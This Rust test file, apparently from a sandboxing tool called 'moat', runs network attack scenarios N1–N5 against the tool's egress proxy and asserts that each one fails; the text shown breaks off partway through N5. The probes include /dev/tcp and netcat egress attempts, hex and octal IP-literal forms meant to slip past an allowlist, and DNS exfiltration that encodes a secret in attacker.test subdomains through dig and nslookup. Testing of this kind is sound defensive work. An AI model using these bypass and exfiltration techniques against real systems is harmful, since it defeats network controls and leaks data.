//! The network attack suite: N1–N10 of docs/threat-model.md, run inside real sandboxes
//! (through the `moat` CLI, or through the libraries where a test needs a door
//! with a fake resolver), once per backend.
//!
//! Every test asserts that the attack failed (the client's error, the status,
//! the DNS rcode) and that nothing reached "the outside": servers the test
//! runs on loopback, on this machine's own addresses or in a network namespace
//! it created, which log everything that reaches them. Where the door was
//! involved, the audit log must hold the denial with its reason, and never a
//! header value or body the test sent.

mod netkit;

use netkit::resolver::TestResolver;
use netkit::*;

/// Statuses are checked per case; this is the common "refused by policy".
const FORBIDDEN: u64 = 403;

fn q(s: &str) -> String {
    serde_json::to_string(s).unwrap()
}

/// A `ping` of a host address from a sandbox of the `moat` CLI failed for
/// its precise reason. Under bwrap ping cannot open a socket at all (raw
/// sockets are refused by the filter, ICMP datagram sockets by the kernel's
/// default `ping_group_range` in the sandbox's namespace): the network's own
/// answer is tested in N10's last part, where ICMP sockets are switched on.
/// gVisor without a door has its own network stack, whose ICMP sockets meet
/// no route; with a door it uses the door namespace's, where it offers no
/// ICMP socket.
fn ping_refused(pr: &Probes, name: &str, b: Backend, door: bool) {
    let out = pr.out(name);
    assert_eq!(pr.code(name), 2, "{name}: {out}");
    let why: &[&str] = match (b, door) {
        (Backend::Bwrap, _) => &["socket: Operation not permitted"],
        (Backend::Gvisor, false) => &["No route to host", "Network is unreachable"],
        (Backend::Gvisor, true) => &["socket: Address family not supported"],
    };
    assert!(why.iter().any(|w| out.contains(w)), "{name}: {out}");
}

/// The errors of an ICMP datagram socket towards a host address, as for
/// `ping_refused`.
fn icmp_refusals(b: Backend, door: bool) -> &'static [&'static str] {
    match (b, door) {
        (Backend::Bwrap, _) => &["EACCES"],
        (Backend::Gvisor, false) => &["EHOSTUNREACH", "ENETUNREACH"],
        (Backend::Gvisor, true) => &["EAFNOSUPPORT"],
    }
}

// ---------------------------------------------------------------------------
// N1: no network without an allowlist
// ---------------------------------------------------------------------------

fn n1_no_allowlist(b: Backend) {
    let up = Upstream::on_host();
    let udp = UdpLog::on_host();
    let icmp = IcmpWatch::start();
    let sb = Sandbox::new(b, "n1");
    let (p, u) = (up.port, udp.port);
    let pattern = icmp.ping_pattern();
    require_host_addrs();
    let addrs = local_addrs();
    let mut script = String::from("t env sh -c 'env | grep -i proxy; true'\n");
    for (i, ip) in addrs.iter().enumerate() {
        let h = url_host(*ip);
        script += &format!(
            "t curl{i} curl -sS -m 5 http://{h}:{p}/n1\n\
             t wget{i} wget -q -T 5 -t 1 -O - http://{h}:{p}/n1\n\
             t devtcp{i} bash -c 'exec 3<>/dev/tcp/{ip}/{p}'\n\
             t nc{i} nc -z -w 3 {ip} {p}\n\
             t ncudp{i} sh -c 'echo n1-leak | nc -u -w 1 {ip} {u}'\n\
             t ping{i} ping -c 1 -W 2 -p {pattern} {ip}\n"
        );
    }
    script += &format!(
        "t getent getent hosts n1-probe.test\n\
         t getent_ahosts getent ahosts n1-probe.test\n\
         t curlname curl -sS -m 5 http://n1-probe.test:{p}/\n\
         t ifaces sh -c 'tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d \" \"'\n\
         t routes sh -c 'tail -n +2 /proc/net/route 2>/dev/null; grep -v \" lo$\" /proc/net/ipv6_route 2>/dev/null; true'\n"
    );
    let pr = sb.sh(&script).probes();
    assert_eq!(pr.out("env"), "", "proxy variables without a door");
    for (i, ip) in addrs.iter().enumerate() {
        pr.failed(&format!("curl{i}"), Some(7), "Couldn't connect");
        pr.failed(&format!("wget{i}"), Some(4), "");
        pr.failed(&format!("nc{i}"), Some(1), "");
        let devtcp = pr.out(&format!("devtcp{i}"));
        assert_ne!(pr.code(&format!("devtcp{i}")), 0, "{ip}: {devtcp}");
        if ip.is_loopback() {
            // The sandbox's own loopback: nothing listens there.
            assert!(devtcp.contains("Connection refused"), "{ip}: {devtcp}");
        } else {
            assert!(
                devtcp.contains("Network is unreachable") || devtcp.contains("No route to host"),
                "{ip}: {devtcp}"
            );
            pr.failed(&format!("ncudp{i}"), Some(1), "");
            // A ping of one's own loopback is no egress; the host's addresses are.
            ping_refused(&pr, &format!("ping{i}"), b, false);
        }
    }
    pr.failed("getent", Some(2), "");
    pr.failed("getent_ahosts", Some(2), "");
    pr.failed("curlname", Some(6), "Could not resolve host: n1-probe.test");
    assert_eq!(pr.out("ifaces"), "lo", "interfaces besides loopback");
    assert_eq!(pr.out("routes").trim(), "", "routes in an empty namespace");

    // Python sockets, with the exact errors.
    let mut code = format!("P = {p}\nU = {u}\n");
    for (i, ip) in addrs.iter().enumerate() {
        let fam = if ip.is_ipv4() { "AF_INET" } else { "AF_INET6" };
        code += &format!(
            "attempt('tcp{i}', tcp_connect, {ip:?}, P, socket.{fam})\n\
             attempt('udp{i}', udp_exchange, {ip:?}, U, b'n1-udp-leak', socket.{fam})\n",
            ip = ip.to_string()
        );
    }
    code += "attempt('gai', resolve4, 'n1-probe.test')\n";
    let r = sb.python(&code);
    for (i, ip) in addrs.iter().enumerate() {
        if ip.is_loopback() {
            py_failed(&r, &format!("tcp{i}"), &["ECONNREFUSED"]);
            py_failed(&r, &format!("udp{i}"), &["ECONNREFUSED", "TimeoutError"]);
        } else {
            py_failed(&r, &format!("tcp{i}"), &["ENETUNREACH", "EHOSTUNREACH"]);
            py_failed(&r, &format!("udp{i}"), &["ENETUNREACH", "EHOSTUNREACH"]);
        }
    }
    py_failed(&r, "gai", &["gaierror"]);

    up.assert_untouched("N1");
    udp.assert_untouched("N1");
    assert!(icmp.marked().is_empty(), "an echo request left the sandbox");
    assert!(
        !sb.audit_exists(),
        "a door was started without an allowlist"
    );
}

// ---------------------------------------------------------------------------
// N2: allowed domains work through the proxy; nothing else does
// ---------------------------------------------------------------------------

fn n2_allowed_domain_works(b: Backend) {
    let up = Upstream::loopback();
    let pki = Pki::new(&["front.test"]);
    let tls = TlsServer::start(&pki, None);
    let (p, t) = (up.port, tls.port);
    let header_marker = format!("hdr-{}", random_hex(8));
    let body_marker = format!("body-{}", random_hex(8));
    let mut sb = Sandbox::new(b, "n2-allowed");
    sb.allow(&format!("web.test:{p}"))
        .pin("web.test", "127.0.0.1")
        .allow(&format!("front.test:{t}"))
        .pin("front.test", "127.0.0.1")
        .trust(&pki);
    let pr = sb
        .sh(&format!(
            "t http curl -sS -m 10 -H 'X-Marker: {header_marker}' -H 'Authorization: Bearer {header_marker}' --data-binary '{body_marker}' http://web.test:{p}/n2/plain?q={header_marker}\n\
             t https curl -sS -m 10 -H 'X-Marker: {header_marker}' --data-binary '{body_marker}' https://front.test:{t}/n2/tls\n"
        ))
        .probes();
    pr.succeeded(
        "http",
        &format!("upstream-ok POST /n2/plain?q={header_marker} HTTP/1.1"),
    );
    pr.succeeded("https", "tls-hello /n2/tls");

    let hits = up.hits();
    assert_eq!(hits.len(), 1, "{hits:?}");
    let seen = hits[0].text();
    assert!(seen.contains(&format!("Host: web.test:{p}\r\n")), "{seen}");
    assert!(
        seen.contains(&format!("X-Marker: {header_marker}\r\n")),
        "{seen}"
    );
    assert!(seen.ends_with(&body_marker), "{seen}");
    assert!(
        !seen.to_ascii_lowercase().contains("proxy-"),
        "proxy headers forwarded: {seen}"
    );
    assert_eq!(
        tls.requests(),
        vec![("POST".into(), "/n2/tls".into(), format!("front.test:{t}"))]
    );

    let audit = sb.audit();
    audit.assert_well_formed();
    let http = audit.find("http", "web.test", "allowed");
    assert_eq!(http.len(), 1, "{}", audit.text);
    assert_eq!(http[0]["address"], format!("127.0.0.1:{p}"));
    assert_eq!(http[0]["port"], p);
    assert!(http[0]["bytes_up"].as_u64().unwrap() > 0);
    assert!(http[0]["bytes_down"].as_u64().unwrap() > 0);
    let conn = audit.find("connect", "front.test", "allowed");
    assert_eq!(conn.len(), 1, "{}", audit.text);
    assert_eq!(conn[0]["address"], format!("127.0.0.1:{t}"));
    audit.assert_absent(&header_marker);
    audit.assert_absent(&body_marker);
}

fn n2_other_domains_are_refused(b: Backend) {
    let up = Upstream::loopback();
    let other_port = Upstream::loopback();
    let pki = Pki::new(&["front.test", "other.test"]);
    let tls = TlsServer::start(&pki, None);
    let (p, q2, t) = (up.port, other_port.port, tls.port);
    let marker = format!("n2-{}", random_hex(8));
    let mut sb = Sandbox::new(b, "n2-denied");
    // other.test is pinned to the test's own servers but not allowed: if the
    // door let it through, the servers would see it.
    sb.allow(&format!("web.test:{p}"))
        .allow(&format!("front.test:{t}"))
        .allow("plain.test")
        .pin("web.test", "127.0.0.1")
        .pin("front.test", "127.0.0.1")
        .pin("plain.test", "127.0.0.1")
        .pin("other.test", "127.0.0.1")
        .trust(&pki);
    let pr = sb
        .sh(&format!(
            "t http_other curl -sS -i -m 10 -H 'X-Marker: {marker}' http://other.test:{p}/n2\n\
             t connect_other curl -sS -m 10 https://other.test:{t}/n2\n\
             t http_port curl -sS -i -m 10 http://web.test:{q2}/n2\n\
             t connect_port curl -sS -m 10 https://web.test:{q2}/n2\n\
             t http_default_ports curl -sS -i -m 10 http://plain.test:{p}/n2\n\
             t connect_default_ports curl -sS -m 10 https://plain.test:{t}/n2\n\
             t tls_port_as_http curl -sS -i -m 10 http://front.test:{p}/n2\n\
             t direct_other curl --noproxy '*' -sS -m 10 http://other.test:{p}/n2\n\
             t getent_other getent hosts other.test\n\
             t wget_other wget -q -T 10 -t 1 -O - http://other.test:{p}/n2\n"
        ))
        .probes();
    for (name, why) in [
        (
            "http_other",
            "other.test is not on the allowlist".to_string(),
        ),
        (
            "http_port",
            format!("web.test is allowed, but not on port {q2}"),
        ),
        (
            "http_default_ports",
            format!("plain.test is allowed, but not on port {p}"),
        ),
        (
            "tls_port_as_http",
            format!("front.test is allowed, but not on port {p}"),
        ),
    ] {
        pr.succeeded(name, "HTTP/1.1 403 Forbidden");
        assert!(
            pr.out(name).contains(&format!("X-Moat-Denied: {why}")),
            "{name}: {}",
            pr.out(name)
        );
    }
    for name in ["connect_other", "connect_port", "connect_default_ports"] {
        pr.failed(name, Some(56), "CONNECT tunnel failed, response 403");
    }
    pr.failed(
        "direct_other",
        Some(6),
        "Could not resolve host: other.test",
    );
    pr.failed("getent_other", Some(2), "");
    pr.failed("wget_other", Some(8), "");

    up.assert_untouched("N2 other domains");
    other_port.assert_untouched("N2 other port");
    assert_eq!(tls.conns(), 0, "the TLS server was reached");
    let audit = sb.audit();
    audit.assert_well_formed();
    audit.assert_denied("http", "other.test", "other.test is not on the allowlist");
    audit.assert_denied(
        "connect",
        "other.test",
        "other.test is not on the allowlist",
    );
    audit.assert_denied("http", "web.test", &format!("not on port {q2}"));
    audit.assert_denied("connect", "web.test", &format!("not on port {q2}"));
    audit.assert_denied("http", "plain.test", &format!("not on port {p}"));
    audit.assert_denied("connect", "plain.test", &format!("not on port {t}"));
    audit.assert_denied("dns", "other.test", "never forwards");
    assert!(audit.find("http", "other.test", "allowed").is_empty());
    audit.assert_absent(&marker);
}

fn n2_ip_literals_are_refused(b: Backend) {
    let up = Upstream::on_host();
    let p = up.port;
    let mut sb = Sandbox::new(b, "n2-ip");
    sb.allow(&format!("web.test:{p}"))
        .pin("web.test", "127.0.0.1");
    let mut forms: Vec<String> = [
        "127.0.0.1",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[0:0:0:0:0:0:0:1]",
        "[::127.0.0.1]",
        "2130706433",
        "0x7f000001",
        "0X7F000001",
        "127.1",
        "0177.0.0.1",
        "017700000001",
        "127.0.0.01",
        "0x7f.0.0.1",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    for ip in host_addrs() {
        forms.push(url_host(ip));
    }
    // Through curl (which may normalize some forms itself)...
    let mut script = String::new();
    for (i, f) in forms.iter().enumerate() {
        script += &format!(
            "t http{i} curl -sS -i -m 10 --proxy http://127.0.0.1:3128 --noproxy '' http://{f}:{p}/n2ip\n\
             t connect{i} curl -sS -m 10 --proxy http://127.0.0.1:3128 --noproxy '' -k https://{f}:{p}/n2ip\n"
        );
    }
    let pr = sb.sh(&script).probes();
    for (i, f) in forms.iter().enumerate() {
        let out = pr.out(&format!("http{i}"));
        assert!(
            out.contains("HTTP/1.1 403 Forbidden")
                && (out.contains("is an IP address that no network.allow entry names")
                    || out.contains("non-standard form")),
            "{f}: {out}"
        );
        let c = pr.code(&format!("connect{i}"));
        let out = pr.out(&format!("connect{i}"));
        // curl refuses some forms itself (3: bad URL); otherwise the door says 403.
        assert!(
            c == 3 || (c == 56 && out.contains("response 403")),
            "{f}: {c} {out}"
        );
    }
    // ...and byte for byte, as an attacker would write them.
    let mut code = format!(
        "P = {p}\nFORMS = {}\n",
        serde_json::to_string(&forms).unwrap()
    );
    code += r#"
for f in FORMS:
    attempt("get " + f, raw, "GET http://%s:%d/n2ip HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (f, P, f, P))
    attempt("connect " + f, connect_status, "%s:%d" % (f, P))
"#;
    let r = sb.python(&code);
    for f in &forms {
        for kind in ["get", "connect"] {
            let v = py_ok(&r, &format!("{kind} {f}"));
            assert_eq!(v["status"], FORBIDDEN, "{kind} {f}: {v}");
            let why = v["denied"].as_str().unwrap();
            assert!(
                why.contains("is an IP address that no network.allow entry names")
                    || why.contains("looks like an IP address in a non-standard form"),
                "{kind} {f}: {why}"
            );
        }
    }
    up.assert_untouched("N2 IP literals");
    let audit = sb.audit();
    audit.assert_well_formed();
    audit.assert_denied("connect", "2130706433", "non-standard form");
    audit.assert_denied("http", "0x7f000001", "non-standard form");
    audit.assert_denied("connect", "[::ffff:127.0.0.1]", "no network.allow entry");
    audit.assert_denied("http", "[::1]", "no network.allow entry");
    assert!(
        audit.records.iter().all(|r| r["verdict"] == "denied"),
        "{}",
        audit.text
    );
}

// ---------------------------------------------------------------------------
// N3: wildcards, case and trailing dots
// ---------------------------------------------------------------------------

fn n3_wildcards_case_and_dots(b: Backend) {
    let up = Upstream::loopback();
    let pki = Pki::new(&["*.wild.test", "*.b.wild.test", "exact.test"]);
    let tls = TlsServer::start(&pki, None);
    let (p, t) = (up.port, tls.port);
    let mut sb = Sandbox::new(b, "n3");
    sb.allow(&format!("*.Wild.Test.:{p}"))
        .allow(&format!("*.wild.test:{t}"))
        .allow(&format!("Exact.Test.:{p}"))
        .allow(&format!("exact.test:{t}"))
        .trust(&pki);
    let allowed = [
        "api.wild.test",
        "a.b.wild.test",
        "API.WILD.TEST",
        "Api.Wild.Test.",
        "api.wild.test.",
        "exact.test",
        "EXACT.TEST",
        "Exact.Test.",
    ];
    let denied = [
        "wild.test",
        "WILD.TEST.",
        "Wild.Test",
        "evilwild.test",
        "xwild.test",
        "evil-wild.test",
        "wild.test.evil.test",
        "api.wild.test.evil.test",
        "sub.exact.test",
        "exact.test.evil.test",
        "exacttest",
        "api.wild.test..",
        "api..wild.test",
        ".wild.test",
        "*.wild.test",
    ];
    // Every name is pinned to the test's own servers: a wrong "allowed" would
    // show there.
    let mut dns_names = Vec::new();
    for n in allowed.iter().chain(denied.iter()) {
        if let Some(norm) = moat_policy::network::normalize_name(n) {
            sb.pin(&norm, "127.0.0.1");
            dns_names.push(*n);
        }
    }
    let code = format!(
        "P = {p}\nT = {t}\nALLOWED = {}\nDENIED = {}\nDNS = {}\n",
        serde_json::to_string(&allowed).unwrap(),
        serde_json::to_string(&denied).unwrap(),
        serde_json::to_string(&dns_names).unwrap()
    ) + r#"
for i, h in enumerate(ALLOWED + DENIED):
    attempt("http " + h, raw, "GET http://%s:%d/n3/%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (h, P, i, h, P))
for h in DNS:
    attempt("dns " + h, dns_query, h)
for i, h in enumerate(ALLOWED):
    ca = None if h.endswith(".") else "/workspace/ca.pem"
    attempt("tls " + h, tls_get, h, T, h, ca, "/n3/tls/%d" % i)
    # clients that ignore the proxy: the stub's address, Host names the entry
    attempt("transparent " + h, lambda h=h, i=i: raw(
        "GET /n3/tr/%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (i, h, P), (resolve4(h.rstrip("."))[0], P)))
for h in DENIED:
    attempt("connect " + h, connect_status, "%s:%d" % (h, T))
# the stub's address of one allowed name with the Host of another: refused
attempt("host swap", lambda: raw(
    "GET /n3/swap HTTP/1.1\r\nHost: exact.test:%d\r\n\r\n" % P, (resolve4("api.wild.test")[0], P)))
"#;
    let r = sb.python(&code);
    let mut want_paths = Vec::new();
    for (i, h) in allowed.iter().enumerate() {
        py_status(&r, &format!("http {h}"), 200, "");
        let d = py_ok(&r, &format!("dns {h}"));
        assert_eq!(
            (d["rcode"].as_u64(), d["answers"].as_u64()),
            (Some(0), Some(1)),
            "{h}: {d}"
        );
        let v = py_ok(&r, &format!("tls {h}"));
        assert_eq!(v["status"], 200, "{h}: {v}");
        assert_eq!(v["body"], format!("tls-hello /n3/tls/{i}\n"), "{h}");
        py_status(&r, &format!("transparent {h}"), 200, "");
        want_paths.push(format!("GET /n3/{i} HTTP/1.1"));
        want_paths.push(format!("GET /n3/tr/{i} HTTP/1.1"));
    }
    for h in denied.iter() {
        py_status(&r, &format!("http {h}"), FORBIDDEN, "");
        if dns_names.contains(h) {
            let d = py_ok(&r, &format!("dns {h}"));
            assert_eq!(
                (d["rcode"].as_u64(), d["answers"].as_u64()),
                (Some(5), Some(0)),
                "{h}: {d}"
            );
        }
        py_status(&r, &format!("connect {h}"), FORBIDDEN, "");
    }
    py_status(
        &r,
        "host swap",
        400,
        "Host header does not name api.wild.test",
    );

    let mut got = up.request_lines();
    got.sort();
    want_paths.sort();
    assert_eq!(
        got, want_paths,
        "the upstream saw other requests than the allowed ones"
    );
    assert_eq!(tls.requests().len(), allowed.len());
    let audit = sb.audit();
    audit.assert_well_formed();
    audit.assert_denied("http", "wild.test", "not on the allowlist");
    audit.assert_denied("http", "evilwild.test", "not on the allowlist");
    audit.assert_denied("http", "wild.test.evil.test", "not on the allowlist");
    audit.assert_denied("connect", "sub.exact.test", "not on the allowlist");
    audit.assert_denied("dns", "xwild.test", "never forwards");
    // Case and dots are normalized before a verdict and a record.
    assert!(audit.find("http", "API.WILD.TEST", "allowed").is_empty());
    assert_eq!(
        audit.find("http", "api.wild.test", "allowed").len(),
        4,
        "{}",
        audit.text
    );
}

// ---------------------------------------------------------------------------
// N4: no way around the door, and no network when it is gone
// ---------------------------------------------------------------------------

fn n4_unset_proxy_and_dial_directly(b: Backend) {
    let up = Upstream::on_host();
    let other = Upstream::loopback();
    let p = up.port;
    let mut sb = Sandbox::new(b, "n4");
    sb.allow(&format!("web.test:{p}"))
        .pin("web.test", "127.0.0.1");
    require_host_addrs();
    let noproxy =
        "env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy -u NO_PROXY -u no_proxy";
    let mut script = format!(
        "t sanity curl -sS -m 10 http://web.test:{p}/n4/sanity\n\
         t env sh -c '{noproxy} env | grep -ic proxy'\n\
         t ifaces sh -c 'tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d \" \"'\n\
         t routes sh -c 'tail -n +2 /proc/net/route'\n"
    );
    for (i, ip) in local_addrs().iter().enumerate() {
        let h = url_host(*ip);
        script += &format!(
            "t direct{i} {noproxy} curl -sS -m 5 http://{h}:{p}/n4\n\
             t directother{i} {noproxy} curl -sS -m 5 http://{h}:{}/n4\n",
            other.port
        );
    }
    let pr = sb.sh(&script).probes();
    pr.succeeded("sanity", "upstream-ok GET /n4/sanity");
    assert_eq!(pr.out("env"), "0");
    assert_eq!(pr.out("ifaces"), "lo");
    assert_eq!(pr.out("routes").trim(), "");
    for (i, ip) in local_addrs().iter().enumerate() {
        if ip.is_ipv4() && ip.is_loopback() {
            // The door's transparent listener owns port p of the sandbox's
            // 127/8; an address the stub never handed out gets nothing (an
            // empty reply, or a reset if curl's request was still unread).
            let (c, out) = (
                pr.code(&format!("direct{i}")),
                pr.out(&format!("direct{i}")),
            );
            assert!(
                (c == 52 && out.contains("Empty reply from server"))
                    || (c == 56 && out.contains("Connection reset by peer")),
                "{ip}: {c} {out}"
            );
        } else {
            pr.failed(&format!("direct{i}"), Some(7), "Couldn't connect");
        }
        pr.failed(&format!("directother{i}"), Some(7), "Couldn't connect");
    }
    let r = sb.python(&(format!(
        "P = {p}\nHOST = {}\n",
        serde_json::to_string(&host_addrs()).unwrap()
    ) + r#"
for a in HOST:
    fam = socket.AF_INET6 if ":" in a else socket.AF_INET
    attempt("tcp " + a, tcp_connect, a, P, fam)
attempt("tcp6 lo", tcp_connect, "::1", P, socket.AF_INET6)
attempt("bind other lo", lambda: raw("GET / HTTP/1.1\r\nHost: web.test:%d\r\n\r\n" % P, ("127.5.5.5", P)))
"#));
    for a in host_addrs() {
        py_failed(&r, &format!("tcp {a}"), &["ENETUNREACH", "EHOSTUNREACH"]);
    }
    py_failed(&r, "tcp6 lo", &["ECONNREFUSED"]);
    let v = py_ok(&r, "bind other lo");
    assert_eq!(
        v["status"], 0,
        "an address the stub never handed out was served: {v}"
    );

    let hits = up.request_lines();
    assert_eq!(hits, vec!["GET /n4/sanity HTTP/1.1".to_string()]);
    other.assert_untouched("N4");
    let audit = sb.audit();
    audit.assert_denied(
        "transparent-tls",
        "127.0.0.1",
        "is not an address the DNS stub handed out",
    );
    audit.assert_denied(
        "transparent-tls",
        "127.5.5.5",
        "not an address the DNS stub",
    );
}

fn n4_stopped_or_crashed_door_fails_closed(b: Backend) {
    // A policy that allows destinations never runs without a door.
    let (dir, _) = fresh_dir(&format!("n4-nodoor-{}", b.name()));
    let engine = moat_sandbox::Engine::new(
        moat_sandbox::EngineConfig {
            data_dir: dir.join("data"),
            runtime_dir: dir.join("run"),
            init_path: std::path::Path::new(env!("CARGO_BIN_EXE_moat"))
                .parent()
                .unwrap()
                .join("moat-init"),
        },
        b.kind(),
    )
    .unwrap();
    let mut policy = moat_policy::SandboxPolicy {
        backend: b.kind(),
        ..Default::default()
    };
    policy
        .network
        .allow
        .push(moat_policy::network::parse_allow_entry("web.test").unwrap());
    let err = engine
        .lease(policy, moat_sandbox::LeaseOptions::default())
        .err()
        .expect("a lease with an allowlist and no door");
    assert!(
        err.to_string().contains("no egress door is attached"),
        "{err}"
    );

    for how in ["drop", "crash"] {
        let outside = Netns::new(&[], &[]);
        let up = Upstream::bind(&["::".parse().unwrap()], 80, Some(&outside));
        let mut sb = LibSandbox::start(
            b,
            &format!("n4-{how}"),
            &outside,
            LibDoorSpec {
                allow: &["web.test"],
                pins: &[("web.test", "127.0.0.1")],
                names: &[],
            },
        );
        let pr = sb
            .sh("t proxied curl -sS -m 10 http://web.test/n4/before\n\
                 t transparent curl --noproxy '*' -sS -m 10 http://web.test/n4/before-tr\n")
            .probes();
        pr.succeeded("proxied", "upstream-ok GET /n4/before HTTP/1.1");
        pr.succeeded("transparent", "upstream-ok GET /n4/before-tr HTTP/1.1");
        match how {
            "drop" => drop(sb.door.take()),
            _ => sb.runtime.crash(),
        }
        // Readiness, not sleep: wait until the proxy port refuses.
        wait_refused(&sb.door_ns, "127.0.0.1:3128".parse().unwrap());
        let pr = sb
            .sh(
                "t proxied curl -sS -m 10 http://web.test/n4/after\n\
                 t connect curl -sS -m 10 https://web.test/n4/after\n\
                 t transparent curl --noproxy '*' -sS -m 10 http://web.test/n4/after-tr\n\
                 t stubaddr curl --noproxy '*' -sS -m 10 -H 'Host: web.test' http://127.100.0.1/n4/after-addr\n\
                 t getent getent hosts web.test\n",
            )
            .probes();
        pr.failed("proxied", Some(7), "Couldn't connect");
        pr.failed("connect", Some(7), "Couldn't connect");
        pr.failed("transparent", Some(6), "Could not resolve host");
        pr.failed("stubaddr", Some(7), "Couldn't connect");
        pr.failed("getent", Some(2), "");
        let r = sb.python("attempt('dns', dns_query, 'web.test')\n");
        py_failed(&r, "dns", &["ECONNREFUSED", "TimeoutError", "timeout"]);
        let mut lines = up.request_lines();
        lines.sort();
        assert_eq!(
            lines,
            vec![
                "GET /n4/before HTTP/1.1".to_string(),
                "GET /n4/before-tr HTTP/1.1".to_string()
            ],
            "{how}"
        );
    }
}

// ---------------------------------------------------------------------------
// N5: DNS exfiltration
// ---------------------------------------------------------------------------

fn n5_dns_exfiltration(b: Backend) {
    let up = Upstream::on_host();
    let udp = UdpLog::on_host();
    let p = up.port;
    let u = udp.port;
    let secret = format!("s{}", random_hex(12));
    let mut sb = Sandbox::new(b, "n5");
    // The door's own lookups (getaddrinfo on the host) go to a resolver of
    // the test's: it must hear about the allowed, unpinned name and never
    // about a secret one.
    let dns = TestResolver::start(&sb.dir, &[("ok.test", "127.0.0.1".parse().unwrap())]);
    sb.resolver(&dns)
        .allow(&format!("web.test:{p}"))
        .allow(&format!("ok.test:{p}"))
        .pin("web.test", "127.0.0.1");
    for tool in ["/usr/bin/dig", "/usr/bin/nslookup"] {
        assert!(
            std::path::Path::new(tool).exists(),
            "{tool} is missing: install dnsutils (scripts/setup does)"
        );
    }
    let mut script = format!(
        "t getent getent hosts {secret}.attacker.test\n\
         t getent_ahosts getent ahosts {secret}-a.attacker.test\n\
         t curl curl -sS -m 10 --noproxy '*' http://{secret}-c.attacker.test/\n\
         t proxy_ok curl -sS -m 10 -w ' %{{http_code}}' http://ok.test:{p}/n5/ok\n\
         t proxy_abs curl -sS -m 10 -w ' %{{http_code}}' http://{secret}-p.attacker.test/\n\
         t proxy_abs_port curl -sS -m 10 -w ' %{{http_code}}' http://{secret}-o.attacker.test:{p}/\n\
         t proxy_connect curl -sS -m 10 https://{secret}-q.attacker.test/\n\
         t dig dig +tries=1 +time=2 {secret}-d.attacker.test TXT\n\
         t dig_tcp dig +tcp +tries=1 +time=2 {secret}-t.attacker.test A\n\
         t nslookup nslookup -timeout=2 {secret}-n.attacker.test\n\
         t dig_ok dig +tries=1 +time=2 +short web.test A\n\
         t dig_ok_txt dig +tries=1 +time=2 web.test TXT\n\
         t dig_resolver dig +tries=1 +time=2 @{} {secret}-r.attacker.test\n\
         t dig_resolver_tcp dig +tcp +tries=1 +time=2 @{} {secret}-s.attacker.test\n",
        dns.addr, dns.addr
    );
    for (i, ip) in local_addrs().iter().enumerate() {
        script += &format!(
            "t dig_direct{i} dig +tries=1 +time=2 @{ip} -p {u} {secret}-x{i}.attacker.test\n\
             t dig_direct_tcp{i} dig +tcp +tries=1 +time=2 @{ip} -p {p} {secret}-y{i}.attacker.test\n"
        );
    }
    let pr = sb.sh(&script).probes();
    pr.failed("getent", Some(2), "");
    pr.failed("getent_ahosts", Some(2), "");
    pr.failed("curl", Some(6), "Could not resolve host");
    // The door looked ok.test up with the test's resolver (nobody else knows
    // it) and refused the loopback address it got.
    pr.succeeded("proxy_ok", "resolves to 127.0.0.1");
    assert!(
        pr.out("proxy_ok").ends_with(" 403"),
        "{}",
        pr.out("proxy_ok")
    );
    for k in ["proxy_abs", "proxy_abs_port"] {
        assert_eq!(pr.code(k), 0, "{k}: {}", pr.out(k));
        assert!(pr.out(k).ends_with(" 403"), "{k}: {}", pr.out(k));
    }
    pr.failed("proxy_connect", Some(56), "403");
    pr.succeeded("dig", "status: REFUSED");
    pr.succeeded("dig_tcp", "status: REFUSED");
    pr.failed("nslookup", None, "REFUSED");
    pr.succeeded("dig_ok", "127.100.0.");
    pr.succeeded("dig_ok_txt", "status: NOERROR");
    assert!(
        pr.out("dig_ok_txt").contains("ANSWER: 0"),
        "{}",
        pr.out("dig_ok_txt")
    );
    for k in ["dig_resolver", "dig_resolver_tcp"] {
        assert_ne!(pr.code(k), 0, "{k}: {}", pr.out(k));
        assert!(!pr.out(k).contains("ANSWER SECTION"), "{k}: {}", pr.out(k));
    }
    for (i, ip) in local_addrs().iter().enumerate() {
        // No answer from anywhere but the stub: refused or unreachable.
        assert_ne!(
            pr.code(&format!("dig_direct{i}")),
            0,
            "{ip}: {}",
            pr.out(&format!("dig_direct{i}"))
        );
        assert!(!pr.out(&format!("dig_direct{i}")).contains("ANSWER SECTION"));
        assert_ne!(pr.code(&format!("dig_direct_tcp{i}")), 0);
    }
    let r = sb.python(
        &(format!(
            "S = {}\nU = {u}\nR = {}\nADDRS = {}\n",
            q(&secret),
            q(&dns.addr.to_string()),
            serde_json::to_string(&local_addrs()).unwrap()
        ) + r#"
attempt("gai", resolve4, S + "-g.attacker.test")
attempt("gai6", socket.getaddrinfo, S + "-h.attacker.test", 443)
attempt("udp", dns_query, S + "-u.attacker.test", 16)
attempt("tcp", dns_query, S + "-v.attacker.test", 1, True)
attempt("aaaa", dns_query, S + "-w.attacker.test", 28)
# an allowed name beside the secret in one message: refused, nothing answered
attempt("multi", dns_query, "web.test", 1, False, ("127.0.0.1", 53), 3, (S + "-m.attacker.test",))
# a label added in front of an allowed exact name
attempt("sub", dns_query, S + ".web.test")
attempt("resolver", dns_query, S + "-k.attacker.test", 1, False, (R, 53), 2)
for a in ADDRS:
    if ":" not in a:
        attempt("direct " + a, dns_query, S + "-z.attacker.test", 1, False, (a, U), 2)
"#),
    );
    py_failed(&r, "gai", &["gaierror"]);
    py_failed(&r, "gai6", &["gaierror"]);
    for k in ["udp", "tcp", "aaaa", "multi", "sub"] {
        let v = py_ok(&r, k);
        assert_eq!(
            (v["rcode"].as_u64(), v["answers"].as_u64()),
            (Some(5), Some(0)),
            "{k}: {v}"
        );
        assert_eq!(v["id_ok"], true);
    }
    for a in local_addrs().iter().filter(|a| a.is_ipv4()) {
        py_failed(
            &r,
            &format!("direct {a}"),
            &[
                "ECONNREFUSED",
                "ENETUNREACH",
                "EHOSTUNREACH",
                "TimeoutError",
                "timeout",
            ],
        );
    }

    py_failed(
        &r,
        "resolver",
        &["ECONNREFUSED", "ENETUNREACH", "TimeoutError", "timeout"],
    );

    udp.assert_untouched("N5");
    up.assert_untouched("N5");
    let asked = dns.asked();
    assert!(
        asked.iter().any(|n| n == "ok.test"),
        "the door never used the test's resolver: {asked:?}"
    );
    for n in &asked {
